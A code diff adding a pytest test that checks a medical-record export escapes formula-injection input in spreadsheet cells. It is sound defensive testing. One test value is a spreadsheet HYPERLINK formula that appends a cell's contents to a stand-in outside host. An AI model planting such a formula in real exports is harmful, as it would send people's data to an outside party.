@@ -138,3 +138,27 @@ def test_what_was_entered_in_error_is_marked_in_the_table() -> None:
 def test_a_pdf_needs_somebody_who_draws_it() -> None:
     with pytest.raises(ValueError, match="draws"):
         FolderDestination(fhir=FHIR, forms=("pdf",))
+
+
+@pytest.mark.parametrize(
+    ("said", "written"),
+    [
+        ('=HYPERLINK("http://x.example/?"&C2)', '\'=HYPERLINK("http://x.example/?"&C2)'),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+1 more pillow", "'+1 more pillow"),
+        ("-", "'-"),
+        ("\t=1", "'\t=1"),
+        ("pain = 7", "pain = 7"),
+    ],
+)
+def test_a_spreadsheet_computes_nothing_that_somebody_said(said: str, written: str) -> None:
+    note = result(ResultKind.REASON_FOR_VISIT, text=said, number="why")
+    temperature = result(
+        ResultKind.BODY_TEMPERATURE,
+        reading(Vital.BODY_TEMPERATURE, "36.6", Unit.CELSIUS, measurement="t"),
+        number="t",
+    )
+    *_, table = compose(sign(dataclasses.replace(note, note=said), temperature), [FOLDER])
+    told, measured = rows(table.body)
+    assert (told["text"], told["note"]) == (written, written)
+    assert measured["value"] == "36.6"
